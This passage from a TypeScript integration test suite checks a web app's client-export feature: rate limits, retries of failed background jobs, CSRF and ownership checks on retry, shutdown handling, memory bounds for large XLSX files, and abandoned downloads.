    const want = await expectedRows(app, { groups: [A], order: 'lower(c.name) asc nulls last, c.id asc' });
    expect(done.text).toContain(`/exports/${id}/download`);
    const { rows: [row] } = await app.services.database.pool.query('select total, processed from exports where id = $1', [id]);
    expect(row).toEqual({ total: want.length, processed: want.length });
    const file = await agent.get(`/exports/${id}/download`).buffer(true).parse(binary);
    expect(file.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await loadXlsx(wb, file.body as Buffer);
    const ids: number[] = [];
    wb.worksheets[0]!.eachRow((row, n) => void (n > 1 && ids.push(row.getCell(1).value as number)));
    expect(ids).toEqual(want.map((r) => Number(r[0])));
    // Through the outbox to BullMQ (dispatched), as the job keyed by the export id.
    const { rows: jobs } = await app.services.database.pool.query(`select job_key, status from job_outbox where payload->>'exportId' = $1`, [id]);
    expect(jobs).toEqual([{ job_key: `exports.run:${id}`, status: 'dispatched' }]);
  });
});

/* ---------- Limits and failures ---------- */

describe('rate limit', () => {
  let limited: TestApp;
  beforeAll(async () => {
    limited = await createTestApp({ EXPORT_RATE_LIMIT: '2' });
  });
  afterAll(async () => {
    await limited.close();
  });
  beforeEach(async () => {
    await limited.services.database.pool.query('delete from exports where user_id = $1', [USERS.managerA.id]);
  });

  it('a user may start EXPORT_RATE_LIMIT exports in 10 minutes; the next one is a 429 with Retry-After and a clear message', async () => {
    const agent = request.agent(limited.app);
    expect((await login(agent, USERS.managerA.email)).status).toBe(303);
    expect((await agent.get('/clients/export')).status).toBe(200);
    expect((await agent.get('/clients/export?format=json')).status).toBe(200);
    const third = await agent.get('/clients/export?format=xlsx');
    expect(third.status).toBe(429);
    expect(third.headers['content-disposition']).toBeUndefined();
    const retryAfter = Number(third.headers['retry-after']);
    expect(retryAfter).toBeGreaterThan(500);
    expect(retryAfter).toBeLessThanOrEqual(600);
    expect(third.text).toContain('You have started too many exports in the last 10 minutes (at most 2 are allowed)');
    // In Russian too.
    const ru = await agent.get('/clients/export').set('Accept-Language', 'ru');
    expect(ru.status).toBe(429);
    expect(ru.text).toContain('вы начали слишком много выгрузок (можно не больше 2)');
    // Exports older than the window no longer count.
    await limited.services.database.pool.query(`update exports set created_at = now() - interval '11 minutes' where user_id = $1`, [USERS.managerA.id]);
    expect((await agent.get('/clients/export')).status).toBe(200);
  });
});

describe('a failed background export', () => {
  let broken: TestApp;
  let blocker: string;
  const jobsOf = async (id: string) =>
    (await broken.services.database.pool.query(`select job_key, status, attempts, last_error from job_outbox where payload->>'exportId' = $1 order by id`, [id])).rows;
  const block = () => {
    fs.rmSync(blocker, { recursive: true, force: true });
    fs.writeFileSync(blocker, 'not a folder');
  };
  beforeAll(async () => {
    // UPLOAD_DIR below a regular file: nothing can be written there, whoever runs the tests (root included).
    blocker = path.join(os.tmpdir(), `tandem-export-blocker-${process.pid}`);
    // Retries 300 ms, then 600 ms later: time to see the export waiting between attempts.
    broken = await createTestApp({ EXPORT_SYNC_LIMIT: '5', EXPORT_RATE_LIMIT: '1000', UPLOAD_DIR: path.join(blocker, 'uploads'), JOBS_POLL_MS: '100', JOBS_BACKOFF_MS: '300' });
    broken.services.jobs.start();
  });
  afterAll(async () => {
    await broken.services.jobs.settle();
    await broken.close();
    fs.rmSync(blocker, { recursive: true, force: true });
  });

  it('a failure that a retry fixes never reaches the user: the export waits, then is done', async () => {
    block();
    const agent = request.agent(broken.app);
    expect((await login(agent, USERS.managerA.email)).status).toBe(303);
    const id = (await agent.get('/clients/export?format=json')).headers.location!.split('/').pop()!;
    // The first attempt fails: the job waits for its next one, the export is pending again, with no error.
    const waitingForRetry = async () => {
      const [job] = await jobsOf(id);
      return job?.attempts === 1 && job.status === 'pending';
    };
    for (let i = 0; i < 100 && !(await waitingForRetry()); i++) await sleep(10);
    expect(await jobsOf(id)).toEqual([expect.objectContaining({ job_key: `exports.run:${id}`, status: 'pending', attempts: 1 })]);
    const { rows: [waiting] } = await broken.services.database.pool.query('select status, error from exports where id = $1', [id]);
    expect(waiting).toEqual({ status: 'pending', error: null });
    fs.rmSync(blocker);
    await pollUntil(agent, id, 'done');
    expect(await jobsOf(id)).toEqual([expect.objectContaining({ status: 'done', attempts: 2 })]);
    const { rows: notes } = await broken.services.database.pool.query(`select data from notifications where user_id = $1 and link = $2`, [USERS.managerA.id, `/exports/${id}`]);
    expect(notes.map((n) => n.data.status)).toEqual(['done']);
  });

  it('shows its error after the last attempt (and on /admin/jobs), and its owner can retry it once the problem is gone', async () => {
    block();
    const agent = request.agent(broken.app);
    expect((await login(agent, USERS.managerA.email)).status).toBe(303);
    const start = await agent.get('/clients/export?format=csv&sort=name&dir=asc');
    expect(start.status).toBe(303);
    const id = start.headers.location!.split('/').pop()!;

    const failed = await pollUntil(agent, id, 'failed', 20_000);
    expect(failed.text).toContain('The export file could not be written on the server');
    expect(failed.text).toContain(`action="/exports/${id}/retry"`);
    expect(failed.text).not.toContain('hx-trigger');
    const { rows: [row] } = await broken.services.database.pool.query('select status, error, storage_name from exports where id = $1', [id]);
    expect(row).toEqual({ status: 'failed', error: 'exports.failure.storage', storage_name: null });
    expect((await agent.get(`/exports/${id}/download`)).status).toBe(409);
    // The full page shows it too.
    expect((await agent.get(`/exports/${id}`)).text).toContain('The export file could not be written on the server');
    // The job failed for good after its three attempts; an administrator sees it with its error.
    const [job] = await jobsOf(id);
    expect(job).toMatchObject({ status: 'failed', attempts: 3 });
    expect(job.last_error).toMatch(/ENOTDIR|EEXIST|not a directory/i);
    const admin = request.agent(broken.app);
    expect((await login(admin, USERS.admin.email)).status).toBe(303);
    const jobsPage = await admin.get('/admin/jobs');
    expect(jobsPage.status).toBe(200);
    const exportsQueue = jobsPage.text.slice(jobsPage.text.indexOf('data-testid="queue-exports"'), jobsPage.text.indexOf('data-testid="queue-maintenance"'));
    expect(exportsQueue).toContain('exports.run');
    expect(exportsQueue).toMatch(/ENOTDIR|EEXIST|not a directory/i);

    // Nobody else can retry it (404, an administrator included), and it needs the form's CSRF token.
    const member = request.agent(broken.app);
    expect((await login(member, USERS.memberA.email)).status).toBe(303);
    for (const other of [admin, member]) {
      const res = await other.post(`/exports/${id}/retry`).type('form').send({ _csrf: await csrfOf(other) });
      expect(res.status).toBe(404);
    }
    expect((await agent.post(`/exports/${id}/retry`).type('form').send({})).status).toBe(403);
    expect((await jobsOf(id)).length).toBe(1);

    fs.rmSync(blocker);
    const retry = await agent.post(`/exports/${id}/retry`).type('form').send({ _csrf: await csrfOf(agent, `/exports/${id}`) });
    expect(retry.status).toBe(303);
    expect(retry.headers.location).toBe(`/exports/${id}`);
    await pollUntil(agent, id, 'done');
    const file = await agent.get(`/exports/${id}/download`).buffer(true).parse(binary);
    expect(file.status).toBe(200);
    expect(parseCsv(file.body.toString('utf8')).slice(1)).toEqual(await expectedRows(broken, { groups: [A], order: 'lower(c.name) asc nulls last, c.id asc' }));
    // A second job, keyed by the failure it retried; the first stays failed on the admin page.
    const after = await jobsOf(id);
    expect(after.map((j) => j.status)).toEqual(['failed', 'done']);
    expect(after[1].job_key).toMatch(new RegExp(`^exports\\.run:${id}:retry:\\d+$`));
    const again = await agent.post(`/exports/${id}/retry`).type('form').send({ _csrf: await csrfOf(agent, `/exports/${id}`) });
    expect(again.status).toBe(409);
  });
});

/* ---------- Shutdown ---------- */

describe('a background export running when the process shuts down', () => {
  let app: TestApp;
  beforeAll(async () => {
    app = await createTestApp({ EXPORT_SYNC_LIMIT: '5', EXPORT_RATE_LIMIT: '1000', JOBS_BACKOFF_MS: '60000' });
    await app.services.database.pool.query(
      `insert into clients (group_id, owner_id, name, notes) select $1, $2, 'Stop ' || lpad(n::text, 5, '0'), repeat('x', 300) from generate_series(1, 40000) n`,
      [B, USERS.subjectB.id],
    );
  });
  afterAll(async () => {
    await app.services.database.pool.query(`delete from clients where name like 'Stop %'`);
    await app.close();
  });

  // PGlite: the export's cursor holds the one connection, so whether the stop comes before the last row is luck.
  it.skipIf(inject('embedded'))('is stopped, left waiting with nothing written, and its job keeps its next attempt', async () => {
    const pool = app.services.database.pool;
    const agent = request.agent(app.app);
    expect((await login(agent, USERS.admin.email)).status).toBe(303);
    const id = (await agent.get(`/clients/export?format=json&group=${B}&q=stop`)).headers.location!.split('/').pop()!;
    let status = '';
    for (let i = 0; i < 400 && status !== 'running'; i++) {
      status = (await pool.query('select status from exports where id = $1', [id])).rows[0]?.status;
      if (status !== 'running') await sleep(5);
    }
    expect(status).toBe('running');
    await app.services.exports.close();
    let job: { status: string; attempts: number; last_error: string } | undefined;
    for (let i = 0; i < 200; i++) {
      job = (await pool.query(`select status, attempts, last_error from job_outbox where payload->>'exportId' = $1`, [id])).rows[0];
      if (job?.status === 'pending') break;
      await sleep(10);
    }
    expect(job).toMatchObject({ status: 'pending', attempts: 1 });
    const { rows: [row] } = await pool.query('select status, error, storage_name from exports where id = $1', [id]);
    expect(row).toEqual({ status: 'pending', error: null, storage_name: null });
    const dir = path.join(app.services.env.UPLOAD_DIR, 'exports');
    expect((fs.existsSync(dir) ? fs.readdirSync(dir) : []).filter((n) => n.startsWith(id))).toEqual([]);
  });
});

/* ---------- XLSX memory ---------- */

describe('a large XLSX export', () => {
  afterAll(async () => {
    await t.services.database.pool.query(`delete from clients where name like 'Big %'`);
  });

  it('never holds more than a bounded amount of sheet XML (it waits for the zip), and reads back whole', async () => {
    const pool = t.services.database.pool;
    const N = 40_000;
    await pool.query(
      `insert into clients (group_id, owner_id, name, company, notes)
       select $1, $2, 'Big ' || lpad(n::text, 5, '0'), 'ООО «Большая» ' || n, repeat('заметка ', 20) from generate_series(1, $3::int) n`,
      [B, USERS.subjectB.id, N],
    );
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'tandem-xlsx-'));
    const file = path.join(dir, 'big.xlsx');
    try {
      const out = fs.createWriteStream(file);
      const stats: XlsxStats = { maxBuffered: 0, waits: 0 };
      const admin = { id: USERS.admin.id, isAdmin: true, memberships: [] };
      const query = clientExportQuery(t.services.database.db, admin, clientFilters.parse({ group: B, q: 'big', sort: 'name', dir: 'asc' }));
      const heapBefore = process.memoryUsage().heapUsed;
      const result = await streamExport(pool, query, 'xlsx', out, { xlsxStats: stats });
      await new Promise<void>((resolve, reject) => out.end((err?: Error | null) => (err ? reject(err) : resolve())));
      expect(result.rows).toBe(N);
      // ≈ 25 MB of sheet XML went through; never more than the bound (plus the one 64 KiB chunk exceljs hands
      // on at a time) waited for the compressor. Without the wait the cursor outruns the zip and most of the
      // sheet piles up (measured: 190 MB for 250,000 rows).
      expect(stats.waits).toBeGreaterThan(0);
      expect(stats.maxBuffered).toBeLessThanOrEqual(XLSX_MAX_BUFFERED + 64 * 1024);
      // A coarse second check: the heap did not take the sheet in (garbage included, it stays well under it).
      expect(process.memoryUsage().heapUsed - heapBefore).toBeLessThan(60 * 2 ** 20);

      // Read back with exceljs (its streaming reader): every row, in order, numbers as numbers.
      let count = 0;
      let first: unknown[] | undefined;
      let last: unknown[] | undefined;
      const reader = new ExcelJS.stream.xlsx.WorkbookReader(file, {});
      for await (const ws of reader) {
        for await (const row of ws) {
          count++;
          const values = (row.values as unknown[]).slice(1);
          if (count === 2) first = values;
          last = values;
        }
      }
      expect(count).toBe(N + 1);
      expect(first?.[1]).toBe('Big 00001');
      expect(typeof first?.[0]).toBe('number');
      expect(first?.[2]).toBe('ООО «Большая» 1');
      expect(last?.[1]).toBe(`Big ${N}`);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  }, 120_000);
});

/* ---------- A client that goes away ---------- */

describe('a download abandoned half-way', () => {
  afterAll(async () => {
    await t.services.database.pool.query(`delete from clients where name like 'Bulk %'`);
  });

  it('ends the cursor, gives the connection back to the pool and logs the export as interrupted', async () => {
    const pool = t.services.database.pool;
    // Enough bytes (≈ 4 MB) that the server is still streaming when the client leaves.
    await pool.query(
      `insert into clients (group_id, owner_id, name, notes) select $1, $2, 'Bulk ' || lpad(n::text, 5, '0'), repeat('x', 500) from generate_series(1, 8000) n`,
      [B, USERS.subjectB.id],
    );
    await pool.query('delete from exports where user_id = $1', [USERS.admin.id]);
    const server = t.app.listen(0, '127.0.0.1');
    await new Promise((r) => server.once('listening', r));
    try {
      const { port } = server.address() as import('node:net').AddressInfo;
      const agent = request.agent(`http://127.0.0.1:${port}`);
      expect((await login(agent, USERS.admin.email)).status).toBe(303);
      const received = await new Promise<number>((resolve) => {
        agent
          .get(`/clients/export?group=${B}&q=bulk`)
          .buffer(true)
          .parse((res, cb) => {
            // Leave after the first chunk, without reading the rest.
            res.once('data', (c: Buffer) => {
              (res as unknown as import('node:http').IncomingMessage).destroy();
              resolve(c.length);
              cb(null, null);
            });
          })
          .end(() => undefined);
      });
      expect(received).toBeGreaterThan(0);
      let row: { status: string; error: string | null } | undefined;
      for (let i = 0; i < 100; i++) {
        row = (await pool.query('select status, error from exports where user_id = $1', [USERS.admin.id])).rows[0];
        if (row?.status !== 'running') break;
        await sleep(50);
      }
      expect(row).toEqual({ status: 'failed', error: 'exports.failure.interrupted' });
      // Nothing is held: the pool's connections are idle, and the next export (embedded: the same, only
      // connection) goes through.
      expect(pool.totalCount - pool.idleCount).toBe(0);
      const next = await get('admin', `/clients/export?group=${B}&q=bulk&format=json`);
      expect(next.status).toBe(200);
      expect(JSON.parse(next.body.toString('utf8'))).toHaveLength(8000);
    } finally {
      await new Promise((r) => server.close(r));
    }
  });
});

/* ---------- A client that goes away once it has the whole file ---------- */

describe.skipIf(inject('embedded'))('a client gone while the finished export is being recorded (skipped on embedded PGlite: one backend, a held lock would stop everything)', () => {
  it('streamSync still returns: it does not wait for a close that has already happened', async () => {
    const pool = t.services.database.pool;
    const actor = { id: USERS.admin.id, isAdmin: true, memberships: [] };
    const plan = await t.services.exports.begin(actor, { format: 'csv', filters: clientFilters.parse({ group: String(A) }) });
    expect(plan.mode).toBe('sync');
    if (plan.mode !== 'sync') return;
    // The export's row stays locked, so recording it as done waits; meanwhile the client goes away.
    const locker = new pg.Client({ connectionString: (pool.options as { connectionString: string }).connectionString });
    await locker.connect();
    try {
      await locker.query('begin');
      await locker.query('select 1 from exports where id = $1 for update', [plan.row.id]);
      const res = Object.assign(new Writable({ write: (_chunk, _enc, cb) => cb() }), { headersSent: true });
      const returned = t.services.exports.streamSync(plan, res).then(() => 'returned' as const);
      await expect
        .poll(async () => (await pool.query("select count(*)::int as n from pg_stat_activity where wait_event_type = 'Lock' and query ilike 'update \"exports\"%'")).rows[0].n, { timeout: 5000 })
        .toBe(1);
      res.destroy();
      await new Promise((r) => res.once('close', r));
      await locker.query('commit');
      expect(await Promise.race([returned, sleep(2000).then(() => 'still waiting' as const)])).toBe('returned');
      expect((await pool.query('select status from exports where id = $1', [plan.row.id])).rows[0].status).toBe('done');
    } finally {
      await locker.end();
    }
  });
});
